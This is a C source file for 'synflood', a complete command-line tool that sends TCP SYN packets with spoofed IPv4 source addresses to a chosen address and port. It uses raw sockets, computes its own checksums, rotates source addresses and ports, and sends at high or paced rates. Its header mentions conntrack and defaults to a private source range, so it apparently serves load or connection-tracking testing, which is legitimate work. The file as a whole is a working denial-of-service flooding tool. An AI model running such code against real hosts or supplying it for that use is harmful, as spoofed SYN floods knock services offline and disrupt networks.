// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * synflood: TCP SYNs from spoofed IPv4 sources (a raw socket, root).
 *
 *   synflood [--src NET/LEN] [--sources N] [--rate PPS] [--sport BASE] ADDR PORT COUNT
 *
 * Sends COUNT SYNs to ADDR:PORT. Packet k comes from source address
 * NET + 1 + (k mod N) (default 10.72.0.0/16, N 50000) and source port
 * BASE + (k div N) mod (65536 - BASE) (default 1024): every (source,
 * source port) pair is distinct until N * (65536 - BASE) packets, so each
 * SYN is a new connection attempt for conntrack. N must fit in the
 * network (N <= 2^(32 - LEN) - 2).
 *
 * --rate PPS paces the sending to PPS packets a second (batches of 64 on
 * schedule); 0 (the default) sends as fast as sendmmsg goes. The kernel
 * fills in the IP checksum and length (IP_HDRINCL); the TCP checksum is
 * computed here. Prints "sent N SYNs from K sources in T s (R/s)"; exits
 * 1 if a send failed (ENOBUFS is retried after 1 ms, and counted in
 * "retries R" when there were any), 2 on bad arguments.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define PKTLEN 40 /* IPv4 header 20 + TCP header 20 */

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void sleep_until(double t)
{
	struct timespec ts = {.tv_sec = (time_t)t, .tv_nsec = (long)((t - (double)(time_t)t) * 1e9)};

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL) == EINTR)
		;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t s)
{
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	if (n & 1)
		s += (uint32_t)p[n - 1] << 8;
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

/* one SYN from src:sport to dst:dport into pkt (network byte order) */
static void build(uint8_t *pkt, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
		  uint32_t seq)
{
	uint8_t *ip = pkt, *tcp = pkt + 20, pseudo[12];
	uint32_t s;

	memset(pkt, 0, PKTLEN);
	ip[0] = 0x45;
	ip[8] = 64; /* TTL */
	ip[9] = IPPROTO_TCP;
	memcpy(ip + 12, &src, 4);
	memcpy(ip + 16, &dst, 4);
	tcp[0] = (uint8_t)(sport >> 8);
	tcp[1] = (uint8_t)sport;
	tcp[2] = (uint8_t)(dport >> 8);
	tcp[3] = (uint8_t)dport;
	tcp[4] = (uint8_t)(seq >> 24);
	tcp[5] = (uint8_t)(seq >> 16);
	tcp[6] = (uint8_t)(seq >> 8);
	tcp[7] = (uint8_t)seq;
	tcp[12] = 5 << 4; /* data offset: 5 words */
	tcp[13] = 0x02;	  /* SYN */
	tcp[14] = 0xfa;	  /* window 64240 */
	tcp[15] = 0xf0;
	memcpy(pseudo, &src, 4);
	memcpy(pseudo + 4, &dst, 4);
	pseudo[8] = 0;
	pseudo[9] = IPPROTO_TCP;
	pseudo[10] = 0;
	pseudo[11] = 20;
	s = sum16(pseudo, sizeof(pseudo), 0);
	s = sum16(tcp, 20, s);
	uint16_t c = fold(s);
	tcp[16] = (uint8_t)(c >> 8);
	tcp[17] = (uint8_t)c;
}

static int usage(void)
{
	fprintf(stderr, "usage: synflood [--src NET/LEN] [--sources N] [--rate PPS] [--sport BASE]"
			" IPV4ADDR PORT COUNT\n");
	return 2;
}

static int num(const char *s, long lo, long hi, long *out)
{
	char *end;

	errno = 0;
	long v = strtol(s, &end, 10);
	if (errno || end == s || *end || v < lo || v > hi)
		return -1;
	*out = v;
	return 0;
}

int main(int argc, char **argv)
{
	long nsrc = 50000, rate = 0, sport = 1024, port, count, len = 16;
	char net[32] = "10.72.0.0";
	struct in_addr netaddr, dstaddr;
	int i = 1;

	while (i + 1 < argc && !strncmp(argv[i], "--", 2)) {
		const char *o = argv[i], *v = argv[i + 1];
		int bad = 0;

		if (!strcmp(o, "--src")) {
			const char *slash = strchr(v, '/');
			if (!slash || (size_t)(slash - v) >= sizeof(net) || num(slash + 1, 8, 30, &len))
				bad = 1;
			else
				snprintf(net, sizeof(net), "%.*s", (int)(slash - v), v);
		} else if (!strcmp(o, "--sources"))
			bad = num(v, 1, 1L << 24, &nsrc);
		else if (!strcmp(o, "--rate"))
			bad = num(v, 0, 100000000, &rate);
		else if (!strcmp(o, "--sport"))
			bad = num(v, 1, 65535, &sport);
		else
			bad = 1;
		if (bad) {
			fprintf(stderr, "synflood: bad option %s %s\n", o, v);
			return usage();
		}
		i += 2;
	}
	if (argc - i != 3 || inet_pton(AF_INET, net, &netaddr) != 1 ||
	    inet_pton(AF_INET, argv[i], &dstaddr) != 1 || num(argv[i + 1], 1, 65535, &port) ||
	    num(argv[i + 2], 1, 100000000, &count))
		return usage();
	if (nsrc > (1L << (32 - len)) - 2) {
		fprintf(stderr, "synflood: %ld sources do not fit in %s/%ld\n", nsrc, net, len);
		return 2;
	}
	uint32_t base = ntohl(netaddr.s_addr) & ~((1U << (32 - len)) - 1);

	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: socket(SOCK_RAW)");
		return 1;
	}
	int one = 1;
	if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0) {
		perror("synflood: IP_HDRINCL");
		return 1;
	}

	static uint8_t pkts[BATCH][PKTLEN];
	struct mmsghdr m[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dstaddr};
	long sent = 0, retries = 0, sports = 65536 - sport;
	double t0 = now();

	memset(m, 0, sizeof(m));
	while (sent < count) {
		int n = count - sent < BATCH ? (int)(count - sent) : BATCH;

		for (int j = 0; j < n; j++) {
			long k = sent + j;
			uint32_t src = htonl(base + 1 + (uint32_t)(k % nsrc));
			uint16_t sp = (uint16_t)(sport + (k / nsrc) % sports);

			build(pkts[j], src, dstaddr.s_addr, sp, (uint16_t)port,
			      (uint32_t)k * 2654435761U);
			iov[j].iov_base = pkts[j];
			iov[j].iov_len = PKTLEN;
			m[j].msg_hdr.msg_iov = &iov[j];
			m[j].msg_hdr.msg_iovlen = 1;
			m[j].msg_hdr.msg_name = &to;
			m[j].msg_hdr.msg_namelen = sizeof(to);
		}
		int done = 0;
		while (done < n) {
			int r = sendmmsg(fd, m + done, (unsigned)(n - done), 0);
			if (r < 0 && (errno == ENOBUFS || errno == EAGAIN)) {
				retries++;
				usleep(1000);
				continue;
			}
			if (r < 0) {
				perror("synflood: sendmmsg");
				fprintf(stderr, "synflood: stopped after %ld SYNs\n", sent + done);
				return 1;
			}
			done += r;
		}
		sent += n;
		if (rate > 0)
			sleep_until(t0 + (double)sent / (double)rate);
	}
	double t = now() - t0;
	printf("sent %ld SYNs from %ld sources in %.3f s (%.0f/s)", sent, sent < nsrc ? sent : nsrc,
	       t, t > 0 ? (double)sent / t : 0.0);
	if (retries)
		printf(", retries %ld", retries);
	printf("\n");
	close(fd);
	return 0;
}
